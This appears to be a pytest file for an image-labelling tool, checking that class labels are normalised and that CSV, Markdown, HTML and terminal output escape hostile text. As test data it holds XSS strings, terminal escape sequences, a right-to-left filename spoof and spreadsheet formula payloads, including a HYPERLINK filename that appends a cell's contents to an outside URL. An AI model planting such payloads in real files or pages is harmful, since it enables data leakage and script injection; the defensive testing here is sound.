"""What labels may hold: twins, HTML, formulas, commands for a terminal. What we write of them is shown as it is."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from flows.artifacts import validation_sheet
from headstart import label_names
from headstart.base import progress, validation
from headstart.base.files import guarded, read_csv, write_csv
from headstart.base.markdown import plain
from headstart.base.validation import Aside, ValidationSummary
from headstart.evaluation.folder import Choice
from headstart.handover import card, folder
from headstart.layout import Layout
from tests.support.images import ROOT, encoded, photograph
from tests.support.reports import CALIBRATION, HEAD, contest
from tests.support.validation import Folders, run

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "`code` **bold** |cell|",
    "a\n\n# heading",
    "</td></tr></table>",
    "&lt;b&gt;",
    "\x1b]0;title\x07\x1b[31mred",
    "\u202egnp.exe",
)
FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "'=1", "''=1")


@pytest.fixture
def layout(tmp_path: Path) -> Layout:
    return Layout(tmp_path / "project")


# Twins


def test_twins_are_told_and_stay_classes_of_their_own(
    class_folders: Folders, layout: Layout, capsys: pytest.CaptureFixture[str]
) -> None:
    root = class_folders(ants=3, Ants=2, bees=3)
    assert run(root, layout)["label"].n_unique() == 3
    told = capsys.readouterr().err
    assert "2 labels differ from another in case, spaces or form of Unicode alone ('Ants' and 'ants'), and are" in told
    assert "set data.normalise_labels to true in params.yaml" in told


def test_without_twins_nothing_is_told(
    class_folders: Folders, layout: Layout, capsys: pytest.CaptureFixture[str]
) -> None:
    root = class_folders(**{" ants": 3, "bees": 3})
    assert set(run(root, layout)["label"]) == {" ants", "bees"}
    assert "differ" not in capsys.readouterr().err


def test_twins_are_joined_on_request(tmp_path: Path, layout: Layout, capsys: pytest.CaptureFixture[str]) -> None:
    labels = [
        "ant",
        "ant",
        " ant",
        "ANT ",
        "caf\u00e9",
        "cafe\u0301",
        "cafe\u0301",
        "bee\u00a0wolf",
        "Bee  wolf",
        "bee wolf",
    ]
    for number in range(len(labels)):
        (tmp_path / f"{number}.png").write_bytes(encoded(photograph(number)))
    file = tmp_path / "list.parquet"
    pl.DataFrame({"path": [f"{number}.png" for number in range(len(labels))], "label": labels}).write_parquet(file)
    table = run(file, layout, normalise_labels=True)
    assert dict(table["label"].value_counts().iter_rows()) == {"ant": 4, "caf\u00e9": 3, "Bee wolf": 3}
    said = capsys.readouterr().out
    assert (
        "8 labels that differ in case, spaces or form of Unicode alone are joined (' ant' and 'ANT ' and 'ant'," in said
    )
    assert r"'cafe\u0301' and 'caf\xe9'" in said


@given(st.lists(st.text(alphabet="aA \u00e9e\u0301\u00df", min_size=1, max_size=4), max_size=12))
def test_joining_twins_leaves_none(labels: list[str]) -> None:
    found = label_names.twins(labels)
    joined = [found.get(label, label) for label in labels]
    again = label_names.twins(joined)
    assert all(again.get(label, label) == label for label in joined)
    assert len(label_names.told(found)) == len(set(found.values()))


# CSV


def cells(data: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]


def begins_formula(cell: str) -> bool:
    return cell[:1] in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@given(st.lists(st.text(alphabet="=+-@'\t\r\n\uff1d1a,\"", min_size=1), min_size=1))
def test_no_csv_begins_a_formula_and_all_come_back(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    file = tmp_path_factory.mktemp("csv") / "table.csv"
    table = pl.DataFrame({"text": [*texts, "a"], "value": [-1.5] * (len(texts) + 1)})
    write_csv(file, table)
    written = cells(file.read_text(encoding="utf-8"))
    assert not any(begins_formula(cell) for cell in written if cell != "-1.5")
    assert read_csv(file, "validate").equals(table)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_guarded_text_is_no_formula(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert guarded(f"a{text}") == f"a{text}"


def test_the_quarantine_can_be_opened_in_a_spreadsheet(class_folders: Folders, layout: Layout) -> None:
    root = class_folders(ants=3, bees=3)
    names = ['=HYPERLINK("http:\u2215\u2215example.org?"&A1,"x").png', "-1+1.jpg", "@a.png"]
    for name in names:
        (root / name).write_bytes(b"x")
    run(root, layout)
    written = cells((layout.validation / "quarantine.csv").read_text(encoding="utf-8"))
    assert not any(begins_formula(cell) for cell in written)
    assert sorted(path for path, _ in validation.quarantined(layout)) == sorted(names)


# HTML and Markdown


def html(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_shows_a_text_as_it_is(text: str) -> None:
    paragraph = html(f"begin {plain(text)} end\n")
    assert paragraph.startswith("<p>begin ")
    assert paragraph.endswith(" end</p>\n")
    assert paragraph.count("<") == 2
    assert html(f"|a|b|\n|---|---|\n|{plain(text)}|2|\n").count("<td>") == 2


def test_the_model_card_holds_no_html_of_its_labels() -> None:
    facts = folder.read_model(ROOT / "tests" / "models" / "format-1").model_copy(update={"classes": list(HOSTILE)})
    choice = Choice(chosen="frozen", n_images=500, temperature=1.2, calibration=CALIBRATION, contest=contest())
    told = {"form": HOSTILE[4], "decided": ("", ""), "int8": "None was tried."}
    text = card.card(facts, HEAD, choice, dataset="<b>x</b>", n_checked=40, **told)
    shown = html(text)
    assert not any(mark in shown for mark in ("<script", "<img", "<a ", "<td", "<b>", "\x1b"))
    assert shown.count("<h1>") == 1
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown


def test_the_sheet_on_prefects_page_holds_no_html_of_labels_and_names(class_folders: Folders, layout: Layout) -> None:
    run(class_folders(ants=3, bees=3), layout)
    summary = ValidationSummary.of(layout).model_copy(update={"images_per_class": dict.fromkeys(HOSTILE, 3)})
    sheet = html(validation_sheet(summary, [(name, name) for name in HOSTILE]))
    assert not any(mark in sheet for mark in ("<script", "<img", "<a ", "<h1", "\x1b"))
    assert sheet.count("<td>") == 4 * len(HOSTILE)


def test_what_is_said_of_a_name_cannot_change_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    for say in (progress.say, progress.warn, progress.fail):
        say("a\x1b[2Jb\u202ec\rd\ne")
        out, err = capsys.readouterr()
        assert r"a\x1b[2Jb\u202ec\rd" in out + err
        assert not {"\x1b", "\u202e", "\r"} & {*out, *err}


def test_a_reason_is_a_row(layout: Layout) -> None:
    aside = [Aside("a.png", "line\nbreak, \"quote\" and 'apostrophe'")]
    validation.write_failed(layout, aside)
    table = read_csv(layout.failed / "quarantine.csv", "validate")
    assert table.rows() == [(*aside[0][:2], True)]
